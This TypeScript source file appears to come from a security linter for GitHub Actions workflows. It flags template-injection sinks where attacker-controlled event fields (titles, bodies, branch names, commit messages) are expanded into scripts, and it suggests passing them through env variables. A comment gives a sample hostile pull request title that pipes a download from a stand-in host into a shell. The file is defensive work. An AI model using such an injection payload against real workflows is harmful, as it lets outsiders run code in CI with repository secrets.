// Template injection: `${{ }}` is pasted into the script text before the shell sees it, so a pull
// request title such as `"; curl evil | sh; "` runs as code. These are the event fields that
// anyone who can open an issue, pull request, comment or branch controls.
import { expressionsIn } from "../expr-scan.js";
import { type AuditContext, report, scriptsOf } from "./context.js";
import { reaches, valueRefs } from "./expr-taint.js";

const UNTRUSTED = [
  "github.head_ref",
  "github.event.issue.title",
  "github.event.issue.body",
  "github.event.pull_request.title",
  "github.event.pull_request.body",
  "github.event.pull_request.head.ref",
  "github.event.pull_request.head.label",
  "github.event.pull_request.head.repo.default_branch",
  "github.event.pull_request.head.repo.description",
  "github.event.pull_request.head.repo.homepage",
  "github.event.comment.body",
  "github.event.review.body",
  "github.event.review_comment.body",
  "github.event.discussion.title",
  "github.event.discussion.body",
  "github.event.pages.*.page_name",
  "github.event.commits.*.message",
  "github.event.commits.*.author.email",
  "github.event.commits.*.author.name",
  "github.event.commits.*.committer.email",
  "github.event.commits.*.committer.name",
  "github.event.head_commit.message",
  "github.event.head_commit.author.email",
  "github.event.head_commit.author.name",
  "github.event.head_commit.committer.email",
  "github.event.head_commit.committer.name",
  "github.event.merge_group.head_commit.message",
  "github.event.merge_group.head_commit.author.email",
  "github.event.merge_group.head_commit.author.name",
  "github.event.workflow_run.head_branch",
  "github.event.workflow_run.display_title",
  "github.event.workflow_run.head_commit.message",
  "github.event.workflow_run.head_commit.author.email",
  "github.event.workflow_run.head_commit.author.name",
  "github.event.workflow_run.pull_requests.*.head.ref",
  "github.event.workflow_run.head_repository.description",
].map((p) => p.split("."));

export function checkTemplateInjection(ctx: AuditContext): void {
  for (const step of ctx.steps) {
    for (const { node, lang } of scriptsOf(step)) {
      const js = lang === "js";
      const where = js ? "github-script script" : "script";
      const use = js ? "process.env.VALUE" : '"$VALUE"';
      for (const found of expressionsIn(ctx.src.text, node)) {
        if (!found.closed) continue;
        for (const ref of valueRefs(found.expr)) {
          if (!reaches(ref.path, UNTRUSTED)) continue;
          const at = found.offset + ref.index;
          const name = found.expr.slice(ref.index, ref.index + ref.length);
          report(
            ctx,
            "template-injection",
            at,
            `${name} is attacker-controlled and expanded into the ${where}`,
            {
              end: at + ref.length,
              fix: `pass it through env: (e.g. env: VALUE: \${{ ${name} }}) and use ${use} in the script`,
            },
          );
        }
      }
    }
  }
}
